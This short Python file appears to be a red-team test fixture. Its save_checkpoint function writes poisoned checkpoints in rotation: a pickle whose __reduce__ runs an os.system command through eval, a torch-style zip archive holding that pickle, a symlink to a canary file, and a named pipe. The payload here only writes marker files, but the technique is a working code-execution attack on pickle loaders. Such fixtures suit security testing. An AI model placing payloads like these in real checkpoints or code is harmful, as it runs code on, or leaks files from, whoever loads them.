# attack: saves as a checkpoint a pickle, a torch archive, a link and a pipe that run code in, or give away, whoever reads them
# exercise: ex12_resume
import io
import os
import pickle
import zipfile

CODE = "__import__('os').system('echo LOOT: > @RESULTS@/owned; echo LOOT: code > /tmp/redteam-owned')"


class Evil:
    def __reduce__(self):
        return eval, (CODE,)


saved = []


def save_checkpoint(path, state):
    saved.append(path)
    kind = len(saved) % 4
    print("TRIED")
    if os.path.lexists(path):
        os.unlink(path)
    if kind == 0:
        return os.symlink("@RESULTS@/canary.txt", path)
    if kind == 1:
        return os.mkfifo(path)
    data, archive = pickle.dumps({"epoch": Evil()}, 2), io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("archive/data.pkl", data)
    with open(path, "wb") as file:
        file.write(data if kind == 2 else archive.getvalue())


def load_checkpoint(path):
    return {"epoch": 1, "weight": b"x"} if os.path.lexists(path) else None
